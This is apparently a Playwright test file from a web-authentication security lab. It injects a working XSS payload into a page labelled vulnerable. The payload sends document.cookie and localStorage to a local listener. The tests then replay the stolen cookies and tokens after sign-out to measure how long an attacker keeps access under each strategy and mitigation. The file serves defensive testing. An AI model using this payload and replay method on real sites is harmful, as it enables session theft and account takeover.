import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { STRATEGY_IDS } from "../../lib/strategies";
import { MITIGATION_IDS, VARIANTS, type VariantId } from "../../lib/catalog/variants";
import { signIn as signInPage, signOut } from "../fixtures";
import { attribute, decodeSegment, expect, leaseAccounts, replay, setCookies, signIn, test, verdict } from "./helpers";

// XSS exfiltration. A script injected through the labelled vulnerable page (/lab/vulnerable/xss) runs as the
// app's origin, reads what it can (document.cookie, localStorage) and sends it to a listener. The victim then
// signs out, and a fresh context replays the loot: the window is how long it keeps working. The
// mitigation variants have no pages of their own: what their sign-in hands to page JavaScript is replayed
// the same way over the API.

let listener: Server;
let loot: { cookie: string; storage: Record<string, string> }[] = [];
let listenerUrl = "";

test.beforeAll(async () => {
  listener = createServer((req, res) => {
    let body = "";
    req.on("data", (c) => (body += c));
    req.on("end", () => {
      try {
        loot.push(JSON.parse(body));
      } catch {
        // not ours
      }
      res.writeHead(204, { "Access-Control-Allow-Origin": "*" }).end();
    });
  });
  await new Promise<void>((r) => listener.listen(0, "127.0.0.1", r));
  listenerUrl = `http://127.0.0.1:${(listener.address() as AddressInfo).port}`;
});
test.afterAll(async () => {
  await new Promise((r) => listener.close(r));
});

/** Bearer tokens among stolen storage values (the jwt client keeps `{token, expiresAt}` as JSON). */
function stolenTokens(storage: Record<string, string>): string[] {
  return Object.values(storage).flatMap((value) => {
    try {
      const parsed = JSON.parse(value) as { token?: unknown };
      if (typeof parsed?.token === "string") return [parsed.token];
    } catch {
      // not JSON
    }
    return /^[\w-]+\.[\w-]+\.[\w-]*$/.test(value) ? [value] : [];
  });
}

/** How long a stolen JWT keeps working from now, by its exp. */
function windowOf(token: string): string {
  const exp = decodeSegment(token.split(".")[1]!).exp as number;
  return `${Math.max(0, Math.round(exp - Date.now() / 1000))} s left (exp ${new Date(exp * 1000).toISOString()})`;
}

for (const strategy of STRATEGY_IDS) {
  test(`[X5] [R2] an injected script steals what it can; replayed after the victim signs out (${strategy})`, async ({
    browser,
    baseURL,
    playwright,
  }, info) => {
    const lease = await leaseAccounts(playwright, baseURL!, { members: 1, admins: 0 });
    const context = await browser.newContext();
    try {
      const member = lease.members[0]!;
      const page = await context.newPage();
      await signInPage(page, strategy, member.email, member.password);

      loot = [];
      const script = `fetch(${JSON.stringify(`${listenerUrl}/steal`)},{method:"POST",mode:"no-cors",body:JSON.stringify({cookie:document.cookie,storage:Object.fromEntries(Object.entries(localStorage))})})`;
      await page.goto(`/lab/vulnerable/xss?q=${encodeURIComponent(`<img src=x onerror='${script}'>`)}`);
      await expect(page.getByTestId("vulnerable-banner")).toBeVisible();
      await expect.poll(() => loot.length, { message: "the injected script ran and reported" }).toBeGreaterThan(0);
      const stolen = loot[0]!;

      // The victim signs out in their own browser.
      await page.goto(`/${strategy}`);
      await signOut(page);
      if (strategy === "jwt") {
        const left = await page.evaluate(() => JSON.stringify(Object.fromEntries(Object.entries(localStorage))));
        const tokens = stolenTokens(stolen.storage);
        verdict(
          info,
          "R2",
          strategy,
          tokens.length > 0 && tokens.every((t) => !left.includes(t)),
          `localStorage after sign-out: ${left.length} chars, no token`,
        );
      }

      // The attacker replays everything from a fresh context.
      const attempts: { what: string; status: number; token?: string }[] = [];
      if (stolen.cookie) {
        const res = await replay(playwright, baseURL!, strategy, { headers: { Cookie: stolen.cookie } });
        attempts.push({ what: "document.cookie", status: res.status() });
      }
      for (const token of stolenTokens(stolen.storage)) {
        const res = await replay(playwright, baseURL!, strategy, { headers: { Authorization: `Bearer ${token}` } });
        attempts.push({ what: "localStorage token", status: res.status(), token });
      }
      const working = attempts.filter((a) => a.status === 200);
      const windowText = working.map((a) => (a.token ? windowOf(a.token) : "until the cookie expires")).join("; ");
      verdict(
        info,
        "X5",
        strategy,
        working.length === 0,
        `script read: cookie ${stolen.cookie ? `"${stolen.cookie.split("=")[0]}=…"` : "(nothing)"}, ${Object.keys(stolen.storage).length} storage key(s); ` +
          `replays after sign-out: ${attempts.map((a) => `${a.what} → ${a.status}`).join(", ") || "nothing to replay"}` +
          (working.length ? `; attacker's window: ${windowText}` : "; attacker's window: 0 s"),
      );
    } finally {
      await context.close();
      await lease.release();
    }
  });
}

for (const variant of MITIGATION_IDS as readonly VariantId[]) {
  test(`[X5] what page JavaScript receives at sign-in, replayed after sign-out (${variant})`, async ({ playwright, baseURL }, info) => {
    const lease = await leaseAccounts(playwright, baseURL!, { members: 1, admins: 0 });
    try {
      const client = await signIn(playwright, baseURL!, variant, lease.members[0]!);
      // A page script sees the response body and any cookie without HttpOnly; nothing else.
      const readable = setCookies(client.login).filter((l) => attribute(l, "HttpOnly") === undefined && !/=;/.test(l));
      const token = client.body.token;
      expect((await client.api.post(`/api/${variant}/logout`, { headers: client.headers })).status()).toBe(200);
      const res = token ? await replay(playwright, baseURL!, variant, { headers: { Authorization: `Bearer ${token}` } }) : null;
      const works = res?.status() === 200 || readable.length > 0;
      verdict(
        info,
        "X5",
        variant,
        !works,
        `script-readable: ${token ? "the access token" : "nothing"}${readable.length ? ` and ${readable.length} cookie(s)` : ""}; ` +
          `replay after sign-out → ${res ? res.status() : "n/a"}${res?.status() === 200 ? `; attacker's window: ${windowOf(token!)}` : ""}`,
      );
      expect(VARIANTS[variant].pageScriptReads === null).toBe(!token);
    } finally {
      await lease.release();
    }
  });
}
